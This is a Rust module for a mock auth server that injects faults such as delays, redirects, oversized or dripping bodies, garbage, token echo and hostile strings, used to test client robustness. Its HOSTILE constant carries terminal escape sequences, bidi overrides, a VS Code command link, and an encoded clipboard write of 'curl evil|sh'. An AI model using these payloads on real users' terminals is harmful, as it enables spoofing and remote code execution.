//! Injected faults: what the next Choreo API requests get instead of a normal answer. Besides
//! plain failures, the hostile behaviours a client must survive: a redirect to another origin,
//! an oversized or slowly dripped answer, garbage, the token echoed back, escape sequences in
//! every name.

use crate::api::invalid_token;
use crate::json_error;
use axum::body::{Body, Bytes};
use axum::http::{HeaderValue, StatusCode, header};
use axum::response::{IntoResponse, Response};
use choreo_auth_core::api::{INTROSPECT_PATH, ORGS_PATH};
use serde::{Deserialize, Serialize};
use std::convert::Infallible;
use std::time::Duration;

pub const DEFAULT_DELAY_MS: u64 = 1000;
pub const MAX_DELAY_MS: u64 = 120_000;
/// Size of the `huge` answer: about 5 MiB, five times what clients may read.
pub const HUGE_CHUNKS: usize = 80;
const CHUNK_LEN: usize = 64 * 1024;
static CHUNK: [u8; CHUNK_LEN] = [b'a'; CHUNK_LEN];

/// What `hostile-strings` puts in every name: CSI (clear screen), OSC 0 (title), OSC 8 (link),
/// OSC 52 (clipboard write), C1 CSI and OSC, bidi overrides and isolates, and a markdown
/// command link (VS Code notifications render those).
pub const HOSTILE: &str = "\u{1b}[2J\u{1b}]0;pwned\u{7}\u{1b}]8;;https://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}\u{9b}1m\u{9d}0;t\u{9c}\u{202e}nimda\u{202c}\u{2066}x\u{2069}\u{200f}[open](command:workbench.action.terminal.new)";
/// The organization `hostile-strings` answers with.
pub const HOSTILE_ORG_UUID: &str = "7f3e0c52-1d4b-4e8a-9c6f-0a1b2c3d4e5f";
/// Bytes that are no JSON at all, for `garbage`.
pub const GARBAGE: &[u8] = b"\xff\xfe\x00<html>\x1b[5m not json \x80\x81";

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum FaultMode {
    Delay,
    ServerError,
    Malformed,
    Huge,
    Unauthorized,
    Redirect,
    /// The answer body one byte every `delayMs`, never complete within [`MAX_DELAY_MS`].
    Drip,
    /// 200 with bytes that are not JSON.
    Garbage,
    /// 401 whose error and error_description (JSON body and `WWW-Authenticate`) are the two
    /// halves of the bearer token it was sent.
    Echo,
    /// A working login whose every string carries [`HOSTILE`].
    HostileStrings,
}

/// `POST /admin/faults` body.
#[derive(Debug, Clone, Deserialize)]
#[serde(rename_all = "camelCase", deny_unknown_fields)]
pub struct FaultRequest {
    pub mode: FaultMode,
    pub delay_ms: Option<u64>,
    pub status: Option<u16>,
    pub location: Option<String>,
    pub times: Option<u32>,
}

/// An active fault, with every default filled in.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct Fault {
    pub mode: FaultMode,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub delay_ms: Option<u64>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub status: Option<u16>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub location: Option<String>,
    /// Requests left; `None` until cleared.
    pub times: Option<u32>,
}

/// What the next request does.
#[derive(Debug)]
pub enum Action {
    /// Wait, then answer normally.
    Delay(Duration),
    /// Answer with this instead of the endpoint.
    Replace(Response),
}

impl FaultRequest {
    /// Checks the request and fills in defaults. The error is a description for a 400.
    pub fn into_fault(self) -> Result<Fault, &'static str> {
        if self.times == Some(0) {
            return Err("times must be at least 1 (omit it to apply until cleared)");
        }
        let mut fault = Fault {
            mode: self.mode,
            delay_ms: None,
            status: None,
            location: None,
            times: self.times,
        };
        let unused = |present: bool, what| if present { Err(what) } else { Ok(()) };
        match self.mode {
            FaultMode::Delay | FaultMode::Drip => {
                let ms = self.delay_ms.unwrap_or(DEFAULT_DELAY_MS);
                if ms > MAX_DELAY_MS {
                    return Err("delayMs must be at most 120000");
                }
                fault.delay_ms = Some(ms);
            }
            FaultMode::ServerError => {
                let status = self.status.unwrap_or(503);
                if !(400..=599).contains(&status) {
                    return Err("status must be 400 to 599 for server-error");
                }
                fault.status = Some(status);
            }
            FaultMode::Redirect => {
                let status = self.status.unwrap_or(307);
                if !matches!(status, 301 | 302 | 303 | 307 | 308) {
                    return Err("status must be 301, 302, 303, 307 or 308 for redirect");
                }
                let location = self.location.clone().ok_or("redirect needs a location")?;
                if HeaderValue::from_str(&location).is_err() {
                    return Err("location must be a valid header value");
                }
                fault.status = Some(status);
                fault.location = Some(location);
            }
            FaultMode::Malformed
            | FaultMode::Huge
            | FaultMode::Unauthorized
            | FaultMode::Garbage
            | FaultMode::Echo
            | FaultMode::HostileStrings => {
                unused(
                    self.status.is_some(),
                    "status applies to server-error and redirect",
                )?;
            }
        }
        if !matches!(self.mode, FaultMode::Delay | FaultMode::Drip) {
            unused(
                self.delay_ms.is_some(),
                "delayMs applies to delay and drip only",
            )?;
        }
        if self.mode != FaultMode::Redirect {
            unused(self.location.is_some(), "location applies to redirect only")?;
        }
        Ok(fault)
    }
}

impl Fault {
    /// Consumes one use; returns whether the fault is now used up.
    pub fn consume(&mut self) -> bool {
        match &mut self.times {
            Some(n) => {
                *n = n.saturating_sub(1);
                *n == 0
            }
            None => false,
        }
    }

    /// What a request for `path` carrying `bearer` gets.
    pub fn action(&self, path: &str, bearer: Option<&str>) -> Action {
        match self.mode {
            FaultMode::Delay => Action::Delay(Duration::from_millis(
                self.delay_ms.unwrap_or(DEFAULT_DELAY_MS),
            )),
            FaultMode::ServerError => Action::Replace(json_error(
                StatusCode::from_u16(self.status.unwrap_or(503))
                    .unwrap_or(StatusCode::SERVICE_UNAVAILABLE),
                "server_error",
                "injected fault: the service is unavailable",
            )),
            FaultMode::Malformed => Action::Replace(
                (
                    [(header::CONTENT_TYPE, "application/json")],
                    r#"{"id": "truncated", "organizationUuid": [1, 2"#,
                )
                    .into_response(),
            ),
            FaultMode::Huge => Action::Replace(
                ([(header::CONTENT_TYPE, "application/json")], huge_body()).into_response(),
            ),
            FaultMode::Unauthorized => {
                Action::Replace(invalid_token("injected fault: the token was refused"))
            }
            FaultMode::Drip => Action::Replace(
                (
                    [(header::CONTENT_TYPE, "application/json")],
                    drip_body(Duration::from_millis(
                        self.delay_ms.unwrap_or(DEFAULT_DELAY_MS),
                    )),
                )
                    .into_response(),
            ),
            FaultMode::Garbage => Action::Replace(
                ([(header::CONTENT_TYPE, "application/json")], GARBAGE).into_response(),
            ),
            FaultMode::Echo => Action::Replace(echo(bearer.unwrap_or_default())),
            FaultMode::HostileStrings => Action::Replace(hostile_answer(path)),
            FaultMode::Redirect => {
                let status = StatusCode::from_u16(self.status.unwrap_or(307))
                    .unwrap_or(StatusCode::TEMPORARY_REDIRECT);
                let mut response = status.into_response();
                if let Some(Ok(location)) = self.location.as_deref().map(HeaderValue::from_str) {
                    response.headers_mut().insert(header::LOCATION, location);
                }
                Action::Replace(response)
            }
        }
    }
}

/// 401 echoing the token, split so that neither half holds all of it.
fn echo(token: &str) -> Response {
    let (first, second) = token.split_at(token.len() / 2);
    let mut response = (
        StatusCode::UNAUTHORIZED,
        axum::Json(serde_json::json!({ "error": first, "error_description": second })),
    )
        .into_response();
    let challenge = format!(r#"Bearer error="{first}", error_description="{second}""#);
    if let Ok(value) = HeaderValue::from_str(&challenge) {
        response
            .headers_mut()
            .insert(header::WWW_AUTHENTICATE, value);
    }
    response
}

/// The three answers of a login, every string carrying [`HOSTILE`] (the org's uuid aside, so
/// the login goes through).
fn hostile_answer(path: &str) -> Response {
    let org = serde_json::json!({
        "id": format!("1{HOSTILE}"),
        "uuid": HOSTILE_ORG_UUID,
        "handle": format!("acme{HOSTILE}"),
        "name": format!("Acme{HOSTILE}"),
    });
    let body = if path == INTROSPECT_PATH {
        serde_json::json!({
            "id": format!("pat{HOSTILE}"),
            "organizationUuid": HOSTILE_ORG_UUID,
            "userId": format!("user{HOSTILE}"),
            "allowedScopes": [format!("apim:api_view{HOSTILE}")],
            "status": "active",
        })
    } else if path == ORGS_PATH {
        serde_json::json!([org])
    } else {
        serde_json::json!({ "organization": org })
    };
    axum::Json(body).into_response()
}

/// A body that never completes in time: `{"id":` and then one space every `every`, for
/// [`MAX_DELAY_MS`].
pub fn drip_body(every: Duration) -> Body {
    let ticks = MAX_DELAY_MS / u64::try_from(every.as_millis()).unwrap_or(1).max(1);
    let head = futures_util::stream::iter([Ok::<_, Infallible>(Bytes::from_static(b"{\"id\":"))]);
    let drip = futures_util::stream::unfold(0u64, move |n| async move {
        if n >= ticks {
            return None;
        }
        tokio::time::sleep(every).await;
        Some((Ok::<_, Infallible>(Bytes::from_static(b" ")), n + 1))
    });
    Body::from_stream(futures_util::StreamExt::chain(head, drip))
}

/// About 5 MiB of valid-looking JSON, streamed from one static chunk (no Content-Length, so
/// clients must cap what they read themselves).
pub fn huge_body() -> Body {
    let chunks = std::iter::once(Bytes::from_static(b"{\"padding\":\""))
        .chain(std::iter::repeat_n(Bytes::from_static(&CHUNK), HUGE_CHUNKS))
        .chain(std::iter::once(Bytes::from_static(b"\"}")));
    Body::from_stream(futures_util::stream::iter(chunks.map(Ok::<_, Infallible>)))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn request(mode: FaultMode) -> FaultRequest {
        FaultRequest {
            mode,
            delay_ms: None,
            status: None,
            location: None,
            times: None,
        }
    }

    #[test]
    fn defaults_are_filled_in() {
        let f = request(FaultMode::ServerError).into_fault().unwrap();
        assert_eq!(f.status, Some(503));
        let f = request(FaultMode::Delay).into_fault().unwrap();
        assert_eq!(f.delay_ms, Some(DEFAULT_DELAY_MS));
        assert_eq!(f.times, None);
    }

    #[test]
    fn nonsense_is_refused() {
        assert!(request(FaultMode::Redirect).into_fault().is_err());
        let mut r = request(FaultMode::ServerError);
        r.status = Some(200);
        assert!(r.into_fault().is_err());
        let mut r = request(FaultMode::Huge);
        r.times = Some(0);
        assert!(r.into_fault().is_err());
        let mut r = request(FaultMode::Malformed);
        r.location = Some("http://127.0.0.1:1/".into());
        assert!(r.into_fault().is_err());
    }

    #[test]
    fn a_counted_fault_is_used_up() {
        let mut r = request(FaultMode::Huge);
        r.times = Some(2);
        let mut f = r.into_fault().unwrap();
        assert!(!f.consume());
        assert!(f.consume());
        let mut forever = request(FaultMode::Huge).into_fault().unwrap();
        assert!(!forever.consume());
    }
}
